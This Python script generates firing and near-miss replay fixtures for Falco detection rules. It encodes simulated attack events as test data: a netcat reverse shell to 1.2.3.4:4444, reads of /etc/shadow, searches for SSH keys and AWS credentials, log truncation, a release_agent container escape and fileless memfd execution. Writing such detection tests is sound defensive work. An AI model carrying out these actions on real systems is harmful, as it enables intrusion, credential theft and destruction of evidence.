#!/usr/bin/env python3
"""Regenerate the stable-rule replay fixtures (one firing sequence and one near
miss per falco_rules.yaml rule). Run from this directory: python3 gen.py"""
import json

T0 = 1_700_000_000_000_000_000
NOLOGIN = 4294967295
CAP_SYS_MODULE, CAP_DAC_OVERRIDE, CAP_SYS_ADMIN = 1 << 16, 1 << 1, 1 << 21


def proc(comm, exepath, args=(), cwd="/", uid=0, tty=0, loginuid=NOLOGIN, caps=0, **kw):
    p = {"comm": comm, "exe": exepath, "exepath": exepath, "args": list(args), "cwd": cwd,
         "uid": uid, "gid": uid, "loginuid": loginuid, "tty": tty,
         "cap_permitted": caps, "cap_effective": caps, "cap_inheritable": 0}
    p.update(kw)
    return p


PRE = [
    {"kind": "host", "hostname": "node-1"},
    {"kind": "user", "uid": 0, "name": "root"},
    {"kind": "user", "uid": 33, "name": "www-data"},
    {"kind": "user", "uid": 1000, "name": "alice"},
    {"kind": "container", "id": "c0ffee000001", "name": "web", "image": "docker.io/library/nginx:1.25",
     "privileged": False, "mounts": []},
    {"kind": "container", "id": "c0ffee000002", "name": "priv", "image": "docker.io/library/debian:12",
     "privileged": True, "mounts": [{"source": "/", "dest": "/host", "rw": True}]},
    {"kind": "dns", "name": "kubernetes.default.svc.cluster.local", "addrs": ["10.96.0.1"]},
    {"kind": "process", "tid": 1, "pid": 1, "ppid": 0, "proc": proc("systemd", "/usr/lib/systemd/systemd")},
]


class Seq:
    def __init__(self):
        self.lines = list(PRE)
        self.ts = T0

    def snap(self, tid, ppid, p, cid=None, start=None):
        r = {"kind": "process", "tid": tid, "pid": tid, "ppid": ppid, "proc": dict(p)}
        if start is not None:
            r["proc"]["start_ts"] = start
        if cid:
            r["container_id"] = cid
        self.lines.append(r)

    def sc(self, tid, typ, res, args=None, p=None, cid=None):
        self.ts += 1_000_000
        e = {"kind": "syscall", "ts_ns": self.ts, "tid": tid, "pid": tid, "type": typ, "res": res}
        if args:
            e["args"] = args
        if p:
            e["proc"] = p
        if cid:
            e["container_id"] = cid
        self.lines.append(e)

    def spawn(self, parent, child, p, cid=None):
        self.sc(parent, "clone", child, {"flags": 17}, cid=cid)
        self.sc(child, "execve", 0, p=p, cid=cid)


C1, C2 = "c0ffee000001", "c0ffee000002"
FIXTURES = {}


def fixture(slug, rule):
    def deco(f):
        FIXTURES[slug] = (rule, f)
        return f
    return deco


def sock(sip, sport, dip, dport):
    return {"family": "inet", "l4proto": "tcp", "sip": sip, "sport": sport, "dip": dip, "dport": dport}


@fixture("directory_traversal", "Directory traversal monitored file read")
def _(s, fire):
    s.snap(100, 1, proc("node" if fire else "bash", "/usr/bin/node" if fire else "/bin/bash"))
    s.spawn(100, 101, proc("cat", "/usr/bin/cat", ["x"], cwd="/var/www/html"))
    s.sc(101, "openat", 3, {"dirfd": -100, "name": "/var/www/../../etc/passwd", "flags": 0, "mode": 0})


@fixture("read_sensitive_trusted", "Read sensitive file trusted after startup")
def _(s, fire):
    start = T0 - (100 if fire else 1) * 1_000_000_000
    s.snap(200, 1, proc("nginx", "/usr/sbin/nginx"), start=start)
    s.sc(200, "openat", 5, {"dirfd": -100, "name": "/etc/shadow", "flags": 0, "mode": 0})


@fixture("read_sensitive_untrusted", "Read sensitive file untrusted")
def _(s, fire):
    s.snap(100, 1, proc("bash", "/bin/bash"))
    name = "python3" if fire else "bash"
    s.spawn(100, 101, proc(name, "/usr/bin/" + name, ["-c", "x"]))
    s.sc(101, "openat", 3, {"dirfd": -100, "name": "/etc/shadow", "flags": 0o2000000, "mode": 0})


@fixture("run_shell_untrusted", "Run shell untrusted")
def _(s, fire):
    s.snap(200, 1, proc("nginx", "/usr/sbin/nginx"))
    s.spawn(200, 201, proc("bash", "/bin/bash", ["-c", "id"]) if fire else proc("ls", "/bin/ls", ["/"]))


@fixture("system_user_interactive", "System user interactive")
def _(s, fire):
    s.snap(50, 1, proc("sshd", "/usr/sbin/sshd"))
    s.spawn(50, 51, proc("bash", "/bin/bash", uid=33 if fire else 1000, tty=34816))


@fixture("terminal_shell_in_container", "Terminal shell in container")
def _(s, fire):
    s.snap(300, 1, proc("runc", "/usr/bin/runc"), cid=C1)
    s.spawn(300, 301, proc("bash", "/bin/bash", tty=34816 if fire else 0), cid=C1)


@fixture("contact_k8s_api", "Contact K8S API Server From Container")
def _(s, fire):
    s.snap(400, 1, proc("curl", "/usr/bin/curl"), cid=C1)
    s.sc(400, "socket", 3, {"domain": 2, "type": 1, "proto": 0}, cid=C1)
    dip = "10.96.0.1" if fire else "10.96.0.2"
    s.sc(400, "connect", 0, {"fd": 3, "tuple": sock("172.17.0.2", 40000, dip, 443)}, cid=C1)


@fixture("netcat_rce", "Netcat Remote Code Execution in Container")
def _(s, fire):
    s.snap(300, 1, proc("bash", "/bin/bash"), cid=C1)
    args = ["-e", "/bin/sh", "1.2.3.4", "4444"] if fire else ["-z", "1.2.3.4", "80"]
    s.spawn(300, 301, proc("nc", "/usr/bin/nc", args), cid=C1)


@fixture("search_private_keys", "Search Private Keys or Passwords")
def _(s, fire):
    s.snap(100, 1, proc("bash", "/bin/bash"))
    s.spawn(100, 101, proc("find", "/usr/bin/find", ["/", "-name", "id_rsa" if fire else "notes.txt"]))


@fixture("clear_log_activities", "Clear Log Activities")
def _(s, fire):
    s.snap(100, 1, proc("python3", "/usr/bin/python3"))
    flags = 0o1001 if fire else 0o2001
    s.sc(100, "openat", 4, {"dirfd": -100, "name": "/var/log/syslog", "flags": flags, "mode": 0})


@fixture("remove_bulk_data", "Remove Bulk Data from Disk")
def _(s, fire):
    s.snap(100, 1, proc("bash", "/bin/bash"))
    s.spawn(100, 101, proc("shred" if fire else "rm", "/usr/bin/shred" if fire else "/usr/bin/rm", ["/data/db"]))


@fixture("symlink_sensitive", "Create Symlink Over Sensitive Files")
def _(s, fire):
    s.snap(100, 1, proc("ln", "/usr/bin/ln"))
    s.sc(100, "symlinkat", 0, {"target": "/etc/shadow" if fire else "/etc/hosts", "linkdirfd": -100,
                               "linkpath": "/tmp/x"})


@fixture("hardlink_sensitive", "Create Hardlink Over Sensitive Files")
def _(s, fire):
    s.snap(100, 1, proc("ln", "/usr/bin/ln"))
    s.sc(100, "linkat", 0, {"olddir": -100, "oldpath": "/etc/shadow" if fire else "/etc/hosts",
                            "newdir": -100, "newpath": "/tmp/y", "flags": 0})


@fixture("packet_socket", "Packet socket created in container")
def _(s, fire):
    s.snap(300, 1, proc("tcpdump2", "/usr/bin/tcpdump2"), cid=C1)
    s.sc(300, "socket", 3, {"domain": 17 if fire else 2, "type": 3, "proto": 768}, cid=C1)


@fixture("redirect_stdio_network", "Redirect STDOUT/STDIN to Network Connection in Container")
def _(s, fire):
    s.snap(300, 1, proc("bash", "/bin/bash"), cid=C1)
    if fire:
        s.sc(300, "socket", 3, {"domain": 2, "type": 1, "proto": 0}, cid=C1)
        s.sc(300, "connect", 0, {"fd": 3, "tuple": sock("172.17.0.2", 40001, "1.2.3.4", 4444)}, cid=C1)
    else:
        s.sc(300, "openat", 3, {"dirfd": -100, "name": "/tmp/out.log", "flags": 0o101, "mode": 0o644}, cid=C1)
    s.sc(300, "dup2", 0, {"oldfd": 3, "newfd": 0}, cid=C1)


@fixture("kernel_module_injection", "Linux Kernel Module Injection Detected")
def _(s, fire):
    s.snap(300, 1, proc("insmod", "/usr/sbin/insmod", caps=CAP_SYS_MODULE if fire else 0), cid=C2)
    s.sc(300, "init_module", 0, {"len": 4096, "uargs": ""}, cid=C2)


@fixture("debugfs_privileged", "Debugfs Launched in Privileged Container")
def _(s, fire):
    cid = C2 if fire else C1
    s.snap(300, 1, proc("bash", "/bin/bash"), cid=cid)
    s.spawn(300, 301, proc("debugfs", "/usr/sbin/debugfs", ["/dev/sda1"]), cid=cid)


@fixture("release_agent", "Detect release_agent File Container Escapes")
def _(s, fire):
    caps = CAP_SYS_ADMIN | CAP_DAC_OVERRIDE if fire else CAP_DAC_OVERRIDE
    s.snap(300, 1, proc("sh", "/bin/sh", caps=caps), cid=C2)
    s.sc(300, "openat", 3, {"dirfd": -100, "name": "/tmp/cgrp/release_agent", "flags": 1, "mode": 0}, cid=C2)


@fixture("ptrace_attach", "PTRACE attached to process")
def _(s, fire):
    s.snap(100, 1, proc("injector", "/tmp/injector"))
    s.sc(100, "ptrace", 0, {"request": 16 if fire else 2, "pid": 200})


@fixture("ptrace_antidebug", "PTRACE anti-debug attempt")
def _(s, fire):
    s.snap(100, 1, proc("malware", "/tmp/malware"))
    s.sc(100, "ptrace", 0, {"request": 0 if fire else 7, "pid": 0})


@fixture("find_aws_credentials", "Find AWS Credentials")
def _(s, fire):
    s.snap(100, 1, proc("bash", "/bin/bash"))
    s.spawn(100, 101, proc("find", "/usr/bin/find", ["/", "-path", "*.aws/credentials" if fire else "*.aws/config"]))


@fixture("exec_dev_shm", "Execution from /dev/shm")
def _(s, fire):
    s.snap(100, 1, proc("bash", "/bin/bash"))
    path = "/dev/shm/payload" if fire else "/usr/bin/payload"
    s.spawn(100, 101, proc("payload", path))


@fixture("drop_and_execute", "Drop and execute new binary in container")
def _(s, fire):
    s.snap(300, 1, proc("bash", "/bin/bash"), cid=C1)
    s.spawn(300, 301, proc("miner", "/tmp/miner", exe_upper_layer=fire), cid=C1)


@fixture("ssh_non_standard_port", "Disallowed SSH Connection Non Standard Port")
def _(s, fire):
    s.snap(100, 1, proc("ssh", "/usr/bin/ssh", ["-p", "4444", "8.8.8.8"]))
    s.sc(100, "socket", 3, {"domain": 2, "type": 1, "proto": 6})
    s.sc(100, "connect", 0, {"fd": 3, "tuple": sock("192.168.1.10", 50000, "8.8.8.8", 4444 if fire else 22)})


@fixture("fileless_memfd", "Fileless execution via memfd_create")
def _(s, fire):
    s.snap(100, 1, proc("python3", "/usr/bin/python3"))
    s.sc(100, "memfd_create", 3, {"name": "x", "flags": 1})
    s.spawn(100, 101, proc("3", "/proc/self/fd/3" if fire else "/usr/bin/true", exe_from_memfd=fire))


if __name__ == "__main__":
    for slug, (rule, f) in FIXTURES.items():
        for fire in (True, False):
            s = Seq()
            f(s, fire)
            name = f"{slug}.{'fire' if fire else 'miss'}.jsonl"
            with open(name, "w") as out:
                out.write(f"# rule: {rule}\n# expect: {'fire' if fire else 'miss'}\n")
                for l in s.lines:
                    out.write(json.dumps(l, separators=(",", ":")) + "\n")
    print(len(FIXTURES), "rules")
